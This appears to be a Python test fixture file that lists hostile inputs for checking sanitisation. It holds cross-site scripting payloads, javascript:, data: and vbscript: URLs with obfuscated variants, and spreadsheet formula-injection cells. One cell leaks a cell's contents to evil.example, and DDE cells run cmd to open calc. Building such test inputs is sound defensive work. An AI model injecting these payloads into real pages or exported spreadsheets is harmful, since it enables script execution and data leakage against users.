"""The payloads: markup, addresses no page may link, and cells a spreadsheet would run."""

from __future__ import annotations

import pytest

# The payloads, each in a different HTML context: an element, an attribute value broken out of
# with a double quote, and one broken out of with a single quote.
PAYLOADS = [
    pytest.param("<script>alert(1)</script>", id="script"),
    pytest.param('"><img src=x onerror=alert(1)>', id="img"),
    pytest.param("'onmouseover='alert(1)", id="quote"),
]
# Addresses no page may link and no URL field may accept.
BAD_URLS = {
    "javascript": "javascript:alert(1)",
    "javascript, mixed case": "JaVaScRiPt:alert(document.domain)",
    "javascript, slashes": "javascript://example.org/%0Aalert(1)",
    "javascript, tab inside": "java\tscript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "data, base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript": "vbscript:msgbox(1)",
}
# Cells that Excel, LibreOffice or Google Sheets would evaluate.
FORMULAS = [
    pytest.param('=HYPERLINK("https://evil.example/?leak="&A1,"Click")', id="hyperlink"),
    pytest.param("+cmd|' /C calc'!A0", id="plus-dde"),
    pytest.param("-1+1", id="minus"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at-sum"),
]
